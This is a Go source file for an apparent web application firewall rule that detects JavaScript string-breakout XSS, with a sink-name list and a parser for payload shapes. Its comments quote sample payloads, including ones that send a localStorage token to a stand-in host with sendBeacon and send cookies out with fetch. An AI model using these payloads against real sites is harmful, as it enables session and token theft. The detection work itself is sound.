package waf

import "strings"

// jsStringRules is rule 210203: a JavaScript string closed and a sink
// called (jsStringBreakout). A page that writes a value into a script's
// string without escaping it for JavaScript (var s = '<value>') runs
// what follows the value's quote: '-location.assign(atob`...`)-' sends
// the page to a javascript: URL, ');navigator.sendBeacon('//evil',
// localStorage.token);// sends the token out. The CRS's XSS rules read
// markup, event handlers and a few sinks (document.cookie, location=),
// and these passed them and the gateway in the query, JSON and cookies
// (a fresh-eyes attack, attack 75).
var jsStringRules = `SecRule ` + valueTargets + ` "@` + jsStringBreakoutOp + `" "id:210203,phase:2,block,t:none,t:urlDecodeUni,t:jsDecode,msg:'XSS: a JavaScript string closed and a sink called',tag:'application-multi',tag:'attack-xss',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

// jsStringBreakoutOp is rule 210203's operator (jsStringBreakout).
const jsStringBreakoutOp = "gatewayJSStringBreakout"

func init() { registerGoOperator(jsStringBreakoutOp, jsStringBreakout) }

// jsSinks are the names jsStringBreakout reads after a closed string:
// what navigates, sends, stores, runs code or shows a probe. A sink is
// called (fetch(...), eval`...`), or read or written through a member
// (location.assign, location.href=, navigator.sendBeacon,
// localStorage.token, document.write).
var jsSinks = []string{"location", "navigator", "localStorage", "sessionStorage", "fetch", "eval", "Function", "setTimeout",
	"setInterval", "import", "execScript", "document", "XMLHttpRequest", "WebSocket", "EventSource", "atob", "alert", "prompt",
	"confirm", "postMessage", "Image"}

// jsGlobals are the names of the global object that a sink is reached
// through (window.location, self['eval'], top.fetch(...)).
var jsGlobals = []string{"window", "self", "top", "parent", "frames", "opener", "globalThis"}

// jsStringBreakout is rule 210203's operator: a quote (' " `), closing
// brackets, then an operator that goes on with an expression (- + * / %
// , ; & | ^ ? : or ) then ;) and a sink (jsSinks), after new, void,
// typeof or ! too, then a call, a member or a tagged template: '-alert(1)-',
// ');fetch('//x?'+document.cookie)//, "-location.assign(name)-". Prose
// puts a word or nothing after a quote and an operator ("Yes" - she
// said; 'A' + 'B'), and a sink's name alone or followed by a word passes
// ('Hi' - print it). Each quote is read on over a few bytes.
func jsStringBreakout(v string) bool {
	for i := 0; i < len(v); i++ {
		if c := v[i]; c != '\'' && c != '"' && c != '`' {
			continue
		}
		if jsSinkAfterQuote(v, i+1) {
			return true
		}
	}
	return false
}

// jsSinkAfterQuote reads jsStringBreakout's shape at v[j:], after a quote.
func jsSinkAfterQuote(v string, j int) bool {
	j = skipSpace(v, j)
	closers := 0
	for j < len(v) && v[j] == ')' && closers < 8 {
		j, closers = skipSpace(v, j+1), closers+1
	}
	// an operator that goes on with an expression
	ops := 0
	for j < len(v) && strings.IndexByte("-+*/%,;&|^?:!~", v[j]) >= 0 && ops < 4 {
		j, ops = skipSpace(v, j+1), ops+1
	}
	if ops == 0 {
		return false
	}
	for range 2 {
		if e, ok := wordAt(v, j, "new", "void", "typeof", "await"); ok {
			j = skipSpace(v, e)
		}
	}
	// window.location, self.fetch, top['eval']
	for range 3 {
		if e, ok := wordAt(v, j, jsGlobals...); ok {
			k := skipSpace(v, e)
			if k < len(v) && v[k] == '[' {
				return true
			}
			if k < len(v) && v[k] == '.' {
				j = skipSpace(v, k+1)
				continue
			}
			return false
		}
		e, ok := wordAt(v, j, jsSinks...)
		if !ok {
			return false
		}
		k := skipSpace(v, e)
		if k >= len(v) {
			return false
		}
		switch v[k] {
		case '(', '`':
			return true
		case '=':
			return k+1 < len(v) && v[k+1] != '=' // location='...', not ==
		case '[':
			return true
		case '.':
			m := skipSpace(v, k+1)
			n := m
			for n < len(v) && identByte(v[n], "$") {
				n++
			}
			if n == m {
				return false
			}
			if _, more := wordAt(v, m, jsSinks...); more && jsSinkMember(v[j:e]) {
				j = m // document.location.assign(...)
				continue
			}
			// a member read, written or called (location.assign(,
			// localStorage.token, document.write(, navigator.sendBeacon()
			p := skipSpace(v, n)
			return p >= len(v) || strings.IndexByte("(`=[.,;)+-*/%&|^?:", v[p]) >= 0
		}
		return false
	}
	return false
}

// jsSinkMember: a sink that holds another (document.location).
func jsSinkMember(name string) bool { return name == "document" }
